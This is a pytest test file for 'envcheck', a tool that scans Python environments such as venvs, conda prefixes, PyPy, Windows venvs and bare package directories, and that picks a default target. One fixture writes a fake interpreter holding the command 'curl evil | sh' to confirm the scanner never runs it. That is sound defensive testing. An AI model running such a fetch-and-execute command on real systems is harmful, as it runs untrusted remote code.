"""What the user may name, and what it means."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from envcheck.environments.discover import default_target, find_environment
from envcheck.files.root import Files
from envcheck.model.errors import TargetError
from envcheck.model.invocation import Invocation
from environments.trees import library, program, scan, sites, write


def test_a_dead_venv_tells_its_version_by_its_library_directory(tmp_path: Path) -> None:
    site = tmp_path / "v/lib/python3.12/site-packages"
    site.mkdir(parents=True)
    write(tmp_path / "v/pyvenv.cfg", "home = /gone/bin\nversion_info = 3.12.4.final.0\n")
    found = scan(tmp_path / "v")
    assert (found.kind, found.python.version, found.python.version_source) == ("venv", "3.12.4", "pyvenv")
    assert set(sites(found)) == {str(site)}
    assert found.python.executable is None
    assert found.python.base_prefix == "/gone"


def test_pyvenv_cfg_is_only_a_hint_about_the_version(tmp_path: Path) -> None:
    (tmp_path / "v/lib/python3.9/site-packages").mkdir(parents=True)
    write(tmp_path / "v/pyvenv.cfg", "home = /gone/bin\nversion = 3.13.1\n")
    assert scan(tmp_path / "v").python.version == "3.9"


def test_patchlevel_h_is_believed_before_pyvenv_cfg(tmp_path: Path) -> None:
    library(tmp_path / "base", "3.13", "3.13.2rc1")
    program(tmp_path / "base/bin/python3.13")
    (tmp_path / "v/bin").mkdir(parents=True)
    (tmp_path / "v/lib/python3.13/site-packages").mkdir(parents=True)
    (tmp_path / "v/bin/python").symlink_to(tmp_path / "base/bin/python3.13")
    write(tmp_path / "v/pyvenv.cfg", f"home = {tmp_path}/base/bin\nversion = 3.13.9\n")
    found = scan(tmp_path / "v")
    assert (found.python.version, found.python.version_source) == ("3.13.2rc1", "patchlevel")
    assert found.externally_shared == (str(tmp_path / "base"),)


def test_a_replaced_interpreter_does_not_stop_the_scan_of_a_venv(tmp_path: Path) -> None:
    library(tmp_path / "base", "3.11", "3.11.4")
    (tmp_path / "v/lib/python3.11/site-packages").mkdir(parents=True)
    write(tmp_path / "v/pyvenv.cfg", f"home = {tmp_path}/base/bin\n")
    write(tmp_path / "v/bin/python", "#!/bin/sh\ncurl evil | sh\n")
    assert scan(tmp_path / "v").kind == "venv"
    assert scan(tmp_path / "v/bin/python") == scan(tmp_path / "v")


def test_the_configuration_file_names_its_environment(tmp_path: Path) -> None:
    (tmp_path / "v/lib/python3.9/site-packages").mkdir(parents=True)
    write(tmp_path / "v/pyvenv.cfg", "home = /gone/bin\n")
    assert scan(tmp_path / "v/pyvenv.cfg") == scan(tmp_path / "v")


def test_a_free_threaded_build(tmp_path: Path) -> None:
    site = library(tmp_path / "base", "3.13", "3.13.1", thread="t")
    program(tmp_path / "base/bin/python3.13t")
    found = scan(tmp_path / "base")
    assert (found.python.abi, found.python.free_threaded, found.python.version) == ("cp313t", True, "3.13.1")
    assert sites(found) == [str(site)]
    assert found.initial_path[0] == str(tmp_path / "base/lib/python313t.zip")
    assert scan(tmp_path / "base", HOME="/h").user_site == "/h/.local/lib/python3.13t/site-packages"


def test_a_lib64_build_processes_a_linked_directory_under_both_names(tmp_path: Path) -> None:
    library(tmp_path / "base", "3.11", "3.11.4", lib="lib64")
    program(tmp_path / "base/bin/python3.11")
    site = tmp_path / "v/lib/python3.11/site-packages"
    site.mkdir(parents=True)
    (tmp_path / "v/lib64").symlink_to("lib")
    (tmp_path / "v/bin").mkdir()
    (tmp_path / "v/bin/python").symlink_to(tmp_path / "base/bin/python3.11")
    write(tmp_path / "v/pyvenv.cfg", f"home = {tmp_path}/base/bin\ninclude-system-site-packages = false\n")
    found = scan(tmp_path / "v")
    assert found.python.platlibdir == "lib64"
    assert sites(found) == [str(site).replace("/lib/", "/lib64/"), str(site)] * 2


@pytest.mark.parametrize(("minor", "times", "prefix"), [("3.13", 2, "v"), ("3.14", 2, "v/bin"), ("3.15", 1, "v/bin")])
def test_only_a_pyvenv_cfg_in_bin_makes_bin_the_prefix_from_3_14(
    tmp_path: Path, minor: str, times: int, prefix: str
) -> None:
    library(tmp_path / "base", minor, minor + ".1")
    program(tmp_path / f"base/bin/python{minor}")
    for place in ("v", "v/bin"):
        (tmp_path / place / f"lib/python{minor}/site-packages").mkdir(parents=True)
    (tmp_path / "v/bin/python").symlink_to(tmp_path / f"base/bin/python{minor}")
    write(tmp_path / "v/bin/pyvenv.cfg", f"home = {tmp_path}/base/bin\ninclude-system-site-packages = false\n")
    found = scan(tmp_path / "v/bin/python")
    assert found.path == str(tmp_path / prefix)
    assert sites(found) == [str(tmp_path / prefix / f"lib/python{minor}/site-packages")] * times


def test_a_shared_venv_of_3_15_processes_each_directory_once(tmp_path: Path) -> None:
    base = library(tmp_path / "base", "3.15", "3.15.1")
    program(tmp_path / "base/bin/python3.15")
    own = tmp_path / "v/lib/python3.15/site-packages"
    own.mkdir(parents=True)
    user = tmp_path / "h/.local/lib/python3.15/site-packages"
    user.mkdir(parents=True)
    (tmp_path / "v/bin").mkdir()
    (tmp_path / "v/bin/python").symlink_to(tmp_path / "base/bin/python3.15")
    write(tmp_path / "v/pyvenv.cfg", f"home = {tmp_path}/base/bin\ninclude-system-site-packages = true\n")
    assert sites(scan(tmp_path / "v", HOME=str(tmp_path / "h"))) == [str(own), str(user), str(base)]


def test_an_older_debian_patch_asks_virtual_env(tmp_path: Path) -> None:
    site = library(tmp_path / "usr", "3.8", "3.8.10")
    write(tmp_path / "usr/lib/python3.8/site.py", "if 'VIRTUAL_ENV' in os.environ or x:\n    'dist-packages'\n")
    dist = tmp_path / "usr/lib/python3/dist-packages"
    dist.mkdir(parents=True)
    program(tmp_path / "usr/bin/python3.8")
    assert sites(scan(tmp_path / "usr")) == [str(dist)]
    assert scan(tmp_path / "usr").kind == "system"
    assert sites(scan(tmp_path / "usr", VIRTUAL_ENV="/x")) == [str(site), str(dist)]


def test_real_and_effective_user_differ(tmp_path: Path) -> None:
    library(tmp_path, "3.11", "3.11.4")
    program(tmp_path / "bin/python3.11")
    (tmp_path / "h/.local/lib/python3.11/site-packages").mkdir(parents=True)
    for uids, gids in (((1, 0), (0, 0)), ((0, 0), (1, 0))):
        invocation = Invocation((), {"HOME": str(tmp_path / "h")}, uids, gids)
        found = find_environment(Files(), str(tmp_path), invocation)
        assert found.user_site_enabled is None
        assert [entry.origin for entry in found.site_sequence] == ["base"]


def test_a_relative_user_base_is_noted_and_never_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    library(tmp_path, "3.11", "3.11.4")
    program(tmp_path / "bin/python3.11")
    (tmp_path / "rel/lib/python3.11/site-packages").mkdir(parents=True)
    monkeypatch.chdir(tmp_path)
    files = Files()
    found = scan(tmp_path, files=files, PYTHONUSERBASE="rel")
    assert found.user_site == "rel/lib/python3.11/site-packages"
    assert [entry.origin for entry in found.site_sequence] == ["base"]
    assert [missed.path for missed in files.not_seen] == ["rel/lib/python3.11/site-packages"]


def test_a_conda_prefix(tmp_path: Path) -> None:
    library(tmp_path, "3.11", "3.11.4")
    program(tmp_path / "bin/python3.11")
    (tmp_path / "conda-meta").mkdir()
    assert scan(tmp_path).kind == "conda"


def test_a_windows_venv_offline(tmp_path: Path) -> None:
    (tmp_path / "Lib/site-packages").mkdir(parents=True)
    write(tmp_path / "Scripts/python.exe", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(64))
    write(tmp_path / "pyvenv.cfg", "home = C:\\Python312\ninclude-system-site-packages = false\nversion = 3.12.3\n")
    found = scan(tmp_path)
    assert found.python.version == "3.12.3"
    assert found.python.platform == "windows-amd64"
    assert found.python.base_prefix == "C:\\Python312"
    assert sites(found) == [str(tmp_path), str(tmp_path / "Lib/site-packages")] * 2
    assert found.scripts_dir == str(tmp_path / "Scripts")


def test_pypy_is_named_and_its_packages_are_found(tmp_path: Path) -> None:
    site = tmp_path / "lib/pypy3.10/site-packages"
    site.mkdir(parents=True)
    write(tmp_path / "pyvenv.cfg", "home = /opt/pypy/bin\nimplementation = PyPy\n")
    found = scan(tmp_path)
    assert (found.python.implementation, found.python.version, found.python.abi) == ("pypy", "3.10", "pp310")
    assert sites(found) == [str(site)]


def test_pyvenv_cfg_cannot_make_cpython_into_another_implementation(tmp_path: Path) -> None:
    (tmp_path / "lib/python3.11/site-packages").mkdir(parents=True)
    write(tmp_path / "pyvenv.cfg", "home = /opt/bin\nimplementation = PyPy\n")
    assert scan(tmp_path).python.implementation == "cpython"


# Bare directories -------------------------------------------------------------------------------------------------


def test_a_target_tree_tells_its_python_by_what_is_compiled_in_it(tmp_path: Path) -> None:
    write(tmp_path / "pure-1.dist-info/WHEEL", "Tag: py3-none-any\n")
    write(tmp_path / "pure/__pycache__/__init__.cpython-311.pyc")
    write(tmp_path / "fast/_speed.cpython-312-x86_64-linux-gnu.so")
    found = scan(tmp_path)
    assert (found.kind, found.python.version, found.python.version_source) == ("target-directory", "3.12", "directory")
    assert found.python.platform == "linux-x86_64-glibc"
    assert [tuple(entry) for entry in found.site_sequence] == [(str(tmp_path), "target")]
    assert (found.initial_path, found.stdlib, found.scripts_dir) == ((), None, None)


def test_wheel_tags_count_where_nothing_is_compiled(tmp_path: Path) -> None:
    write(tmp_path / "x-1.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: cp310-cp310-manylinux_2_17_x86_64\n")
    assert scan(tmp_path).python.version == "3.10"


def test_pure_packages_tell_nothing_and_the_version_is_marked_as_assumed(tmp_path: Path) -> None:
    (tmp_path / "x-1.dist-info").mkdir()
    assert scan(tmp_path).python.version_assumed


def test_a_prefix_tree(tmp_path: Path) -> None:
    site = tmp_path / "p/lib/python3.9/site-packages"
    site.mkdir(parents=True)
    (tmp_path / "p/bin").mkdir()
    found = scan(tmp_path / "p")
    assert (found.kind, found.path, found.python.version) == ("target-directory", str(tmp_path / "p"), "3.9")
    assert sites(found) == [str(site)]
    assert found.scripts_dir == str(tmp_path / "p/bin")


def test_the_older_versions_of_a_prefix_tree_are_noted_as_not_seen(tmp_path: Path) -> None:
    for minor in ("3.9", "3.12"):
        (tmp_path / f"lib/python{minor}/site-packages").mkdir(parents=True)
    files = Files()
    assert scan(tmp_path, files=files).python.version == "3.12"
    assert [missed.path for missed in files.not_seen] == [str(tmp_path / "lib/python3.9/site-packages")]


@pytest.mark.parametrize("name", ["", "lib/python3.9/site-packages"])
def test_a_user_tree(tmp_path: Path, name: str) -> None:
    site = tmp_path / ".local/lib/python3.9/site-packages"
    site.mkdir(parents=True)
    (tmp_path / ".local/bin").mkdir()
    found = scan(tmp_path / ".local" / name)
    assert (found.kind, found.scripts_dir) == ("user", str(tmp_path / ".local/bin"))
    assert [tuple(entry) for entry in found.site_sequence] == [(str(site), "user")]


def test_a_site_directory_of_a_venv_knows_the_venvs_version(tmp_path: Path) -> None:
    site = tmp_path / "lib/python3.12/site-packages"
    site.mkdir(parents=True)
    write(tmp_path / "pyvenv.cfg", "home = /gone/bin\nversion = 3.12.4\n")
    found = scan(site)
    assert (found.kind, found.path, found.python.version) == ("target-directory", str(site), "3.12.4")
    assert sites(found) == [str(site)]


# What cannot be scanned -------------------------------------------------------------------------------------------


def refused(target: object) -> TargetError:
    with pytest.raises(TargetError) as caught:
        scan(target)
    assert caught.value.hint
    assert "\n" not in caught.value.message
    return caught.value


def test_what_does_not_exist(tmp_path: Path) -> None:
    assert refused(tmp_path / "no").message == f"{tmp_path}/no: no such file or directory"
    (tmp_path / "link").symlink_to("nowhere")
    assert refused(tmp_path / "link").message == f"{tmp_path}/link: is a link to nothing"
    refused("")
    refused("/a\0b")


def test_what_is_no_environment(tmp_path: Path) -> None:
    refused(tmp_path)
    write(tmp_path / "pyproject.toml", "[project]\n")
    (tmp_path / "project.egg-info").mkdir()
    refused(tmp_path)
    assert "not a Python interpreter" in refused(tmp_path / "pyproject.toml").message
    assert "empty" in refused(write(tmp_path / "python3")).message
    os.mkfifo(tmp_path / "pipe")
    assert "neither a file nor a directory" in refused(tmp_path / "pipe").message
    assert "no Python interpreter" in refused("/bin/ls").message


def test_a_project_directory_is_answered_with_its_environment(tmp_path: Path) -> None:
    write(tmp_path / ".venv/pyvenv.cfg")
    assert refused(tmp_path).hint == f"its environment is {tmp_path}/.venv"
    (tmp_path / ".venv/bin").mkdir()
    assert refused(tmp_path / ".venv/bin").hint == f"its environment is {tmp_path}/.venv"


def test_a_script_is_named_as_such(tmp_path: Path) -> None:
    write(tmp_path / "bin/python3", "#!/bin/sh\nexec real-python\n")
    assert "a script" in refused(tmp_path / "bin/python3").message


# No target --------------------------------------------------------------------------------------------------------


def default(directory: Path, **environ: str) -> str:
    return default_target(Files(), str(directory), environ)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    write(tmp_path / "home/code/project/.venv/pyvenv.cfg")
    place = tmp_path / "home/code/project/src/deep"
    place.mkdir(parents=True)
    return place


def test_the_nearest_venv_of_the_project_is_first(tmp_path: Path, project: Path) -> None:
    found = default(project, VIRTUAL_ENV="/other", HOME=str(tmp_path / "home"))
    assert found == str(tmp_path / "home/code/project/.venv")


@pytest.mark.parametrize("marker", [".git", ".hg"])
def test_a_repositorys_root_ends_the_search(project: Path, marker: str) -> None:
    (project.parent / marker).mkdir()
    assert default(project, VIRTUAL_ENV="/other") == "/other"


def test_the_home_directory_ends_the_search(tmp_path: Path) -> None:
    write(tmp_path / ".venv/pyvenv.cfg")
    place = tmp_path / "home/x"
    place.mkdir(parents=True)
    assert default(place, HOME=str(tmp_path / "home"), VIRTUAL_ENV="/other") == "/other"
    assert default(place, HOME="/elsewhere") == str(tmp_path / ".venv")


def test_a_directory_that_anyone_may_write_supplies_no_venv(tmp_path: Path, project: Path) -> None:
    (tmp_path / "home/code/project").chmod(0o1777)
    assert default(project, VIRTUAL_ENV="/other") == "/other"


def test_the_first_executable_python3_on_path_is_last(tmp_path: Path) -> None:
    for name in ("a", "b", "c"):
        write(tmp_path / name / "python3")
    (tmp_path / "b/python3").chmod(0o755)
    (tmp_path / "c/python3").chmod(0o755)
    path = f":.:relative:{tmp_path}/a:{tmp_path}/missing:{tmp_path}/b:{tmp_path}/c"
    assert default(tmp_path, PATH=path) == f"{tmp_path}/b/python3"


def test_nothing_at_all_is_an_error_that_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(TargetError, match="no environment") as caught:
        default(tmp_path, HOME=str(tmp_path))
    assert "envcheck scan" in caught.value.hint
